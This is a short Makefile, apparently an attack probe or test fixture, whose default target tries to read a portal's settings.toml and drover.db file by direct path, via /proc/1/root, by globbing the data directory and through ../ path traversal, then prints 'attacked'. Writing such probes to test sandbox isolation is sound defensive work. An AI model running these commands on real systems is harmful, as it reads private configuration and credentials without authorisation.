# Reads the portal's settings and database, by their known paths and by searching for them.
all:
	-cat $(DATA)/settings.toml $(DATA)/drover.db
	-cat /proc/1/root$(DATA)/settings.toml
	-cd $(DATA) && cat *
	-cat ../../../../../../../..$(DATA)/settings.toml
	@echo attacked
